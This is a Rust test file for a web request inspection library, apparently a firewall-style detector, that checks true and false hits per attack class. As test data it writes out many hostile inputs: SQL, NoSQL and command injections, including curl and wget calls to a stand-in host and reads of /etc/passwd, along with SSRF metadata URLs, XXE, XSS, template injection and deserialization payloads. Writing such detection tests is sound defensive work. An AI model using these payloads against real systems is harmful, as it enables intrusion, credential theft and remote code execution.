//! Per-detector true and false cases through the public API.

use perimeter_shield::{Config, Verdict, inspect_value, verdict_of};

fn kinds(value: &str) -> Vec<&'static str> {
    let mut k: Vec<_> = inspect_value(value, &Config::default())
        .into_iter()
        .map(|d| d.kind)
        .collect();
    k.sort();
    k
}

fn flags(value: &str, kind: &str) -> bool {
    kinds(value).contains(&kind)
}

#[track_caller]
fn assert_hits(kind: &str, values: &[&str]) {
    for v in values {
        assert!(
            flags(v, kind),
            "{kind} not detected in {v:?} (got {:?})",
            kinds(v)
        );
    }
}

#[track_caller]
fn assert_clean(values: &[&str]) {
    for v in values {
        let d = inspect_value(v, &Config::default());
        assert!(d.is_empty(), "false positive on {v:?}: {d:?}");
    }
}

#[test]
fn sqli() {
    assert_hits(
        "sqli",
        &[
            "1' OR '1'='1",
            "-1 union select 1,version(),3",
            "admin'--",
            "1; DROP TABLE users",
            "1 AND SLEEP(5)",
        ],
    );
    assert_clean(&[
        "O'Brien",
        "Mary-Jane Smith",
        "(0195)-621560",
        "80% acrylic and 20% wool",
        "SMALL \"&\" SIGN",
    ]);
}

#[test]
fn nosqli() {
    assert_hits(
        "nosqli",
        &[
            "username[$ne]=toto",
            "{\"$gt\": \"\"}",
            "', $where: '1 == 1'",
            "' || 'a'=='a",
            "{\"user\": {\"$regex\": \".*\"}}",
        ],
    );
    assert_clean(&[
        "price in $",
        "$5.00",
        "{\"name\": \"bob\", \"tags\": [\"a\"]}",
    ]);
}

#[test]
fn cmdi() {
    assert_hits(
        "cmdi",
        &[
            "; cat /etc/passwd",
            "| whoami",
            "$(id)",
            "`uname -a`",
            "a && curl http://x.example/y",
            "${IFS}cat${IFS}/etc/passwd",
            "() { :;}; echo vulnerable",
            "\nid\n",
            "& net user hacker pw /ADD",
        ],
    );
    assert_clean(&[
        "Tom & Jerry",
        "cat food",
        "echo's",
        "who'll",
        "Q&A; more info soon",
        "rock | pop | jazz",
    ]);
}

#[test]
fn code() {
    assert_hits(
        "code",
        &[
            "require('child_process').exec('id')",
            "this.constructor.constructor('return process')()",
            "__import__('os').system('id')",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "<?php system($_GET['c']); ?>",
            "<!--#exec cmd=\"ls\" -->",
        ],
    );
    assert_clean(&[
        "Hello {name}",
        "cost: $5 {approx}",
        "double__underscore",
        "eval is a word",
    ]);
}

#[test]
fn path_traversal() {
    assert_hits(
        "path-traversal",
        &[
            "../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252f",
            "..%c0%af..%c0%afboot.ini",
            "/etc/shadow",
            "C:\\Windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index.php",
            "/var/log/apache2/access.log%00",
        ],
    );
    assert_clean(&[
        "/pets/123",
        "images/cat.png",
        "a..b",
        "v1.2.3",
        "/dev/xvda",
        "/home/user/report.xls",
    ]);
}

#[test]
fn ssrf() {
    assert_hits(
        "ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://[::ffff:169.254.169.254]/",
            "http://[fd00:ec2::254]/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "169.254.169.254",
            "http://localhost:8080/admin",
            "http://169.254.169.254.nip.io/",
        ],
    );
    assert_clean(&[
        "https://example.com/a",
        "http://10.0.0.1/",
        "192.168.1.1",
        "127.0.0.1",
        "see https://aws.amazon.com",
    ]);
}

#[test]
fn xxe() {
    assert_hits(
        "xxe",
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\">]>",
            "<xi:include href=\"file:///etc/passwd\"/>",
        ],
    );
    assert_clean(&[
        "<?xml version=\"1.0\"?><note><to>Tove</to></note>",
        "<!DOCTYPE html>",
    ]);
}

#[test]
fn xss() {
    assert_hits(
        "xss",
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "java\tscript:alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\"><iframe src=//x.example>",
            "';alert(1)//",
        ],
    );
    assert_clean(&[
        "a < b and c > d",
        "<b>bold</b>",
        "Use <a href=\"/docs\">the docs</a>",
        "x => x + 1",
        "I'll confirm tomorrow",
    ]);
}

#[test]
fn deserialization() {
    assert_hits(
        "deserialization",
        &[
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "aced0005737200",
            "!!python/object/apply:os.system ['id']",
            "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        ],
    );
    assert_clean(&["rO0", "gasoline", "Organic", "!!important", "AAEAAA"]);
}

#[test]
fn verdict_thresholds() {
    let cfg = Config::default();
    assert_eq!(
        verdict_of(&inspect_value("1' OR '1'='1", &cfg), &cfg),
        Verdict::Block
    );
    assert_eq!(
        verdict_of(&inspect_value("http://localhost/x", &cfg), &cfg),
        Verdict::Alert
    );
    assert_eq!(
        verdict_of(&inspect_value("hello world", &cfg), &cfg),
        Verdict::Pass
    );
    let strict = Config {
        block_threshold: 0.6,
        ..Config::default()
    };
    assert_eq!(
        verdict_of(&inspect_value("http://localhost/x", &strict), &strict),
        Verdict::Block
    );
    let mut off = Config::default();
    off.detectors.sqli = false;
    assert!(
        inspect_value("1' OR '1'='1", &off)
            .iter()
            .all(|d| d.kind != "sqli")
    );
}

#[test]
fn excerpts_are_short_and_redacted() {
    let long = format!("{}' OR 1=1 -- 4111111111111111", "a".repeat(500));
    for d in inspect_value(&long, &Config::default()) {
        assert!(d.excerpt.chars().count() <= 49, "{d:?}");
        assert!(!d.excerpt.contains("4111111111111111"), "{d:?}");
    }
}

#[test]
fn encodings_and_forms_added_for_recall() {
    // Traversal through hex literals, percent runs before a hex pair, base64, filter chains.
    assert_hits(
        "path-traversal",
        &[
            "..0x2f..0x2f..0x2fetc0x2fpasswd",
            "/0x2e0x2e0x5c0x2e0x2e0x5cwindows0x5cwin.ini",
            "..%%32%%66..%%32%%66etc%%32%%66hosts",
            "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
            "convert.iconv.UTF8.CSISO2022KR",
        ],
    );
    // Code that hands a command to a shell is command injection too.
    assert_hits(
        "cmdi",
        &[
            "system('whoami')",
            "<?php exec(\"cat /etc/hosts\"); ?>",
            "<!--#exec cmd=\"/usr/bin/id\"-->",
            "passthru($_GET['c'])",
            "||dir|c:\\",
            "<id",
        ],
    );
    assert_hits("xxe", &["&xxe;", "%remote;"]);
    // …while the everyday look-alikes stay clean.
    assert_clean(&[
        "0x2f is the slash",
        "U29tZSBvcmRpbmFyeSBiYXNlNjQgdGV4dA==",
        "&amp;",
        "Tom & Jerry; id card",
        "the 'id' field",
    ]);
    // Code detections of their own, but no command in them.
    for v in ["exec('SELECT 1')", "eval('1+1')"] {
        assert!(!flags(v, "cmdi"), "{v}: {:?}", kinds(v));
    }
}

#[test]
fn cmdi_probes_without_a_separator() {
    // Classes the payload lists use without `;`/`|`: a bare recon command as the whole value
    // (alert), a command after a caret or inside the quotes it opened, a Windows tool with its
    // real subcommand, a pasted shell prompt, PHP's `${…}` interpolation calling sleep/system.
    assert_hits(
        "cmdi",
        &[
            "ls",
            " pwd ",
            "^id",
            "'id'",
            "netsh advfirewall set allprofiles state off",
            "root@box:~# git clone https://x.example/r.git",
            "deploy@web-1:/tmp$ wget http://x.example/a.sh",
            "{${sleep(5)}}",
            "${@system('id')}",
        ],
    );
    assert_clean(&[
        "pwd reset",
        "directory",
        "'ident'",
        "'id' or 'name'",
        "mail bob@example.com: see # 4 below",
        "netsh is a tool",
    ]);
    // A template placeholder is the code detector's business (weak), not a command.
    assert!(!flags("${price} each", "cmdi"));
}

#[test]
fn sql_gate_skips_prose_but_not_injections() {
    assert_clean(&[
        // Browser User-Agents say `like`; API Gateway hosts say `execute`.
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
        "abc123.execute-api.us-east-1.amazonaws.com",
        "Customer 12 O'Neil",
        "Prefers morning delivery; call ahead (front desk) - thanks",
        "Thanks! Delivery before 5pm if possible.",
    ]);
    assert_hits(
        "sqli",
        &[
            "a'+'b",
            "1' *id-'0",
            "x' || 'y",
            "admin'--",
            "1 union select 1",
            "A' LIKE 'B",
            "1;execute('x')",
        ],
    );
}
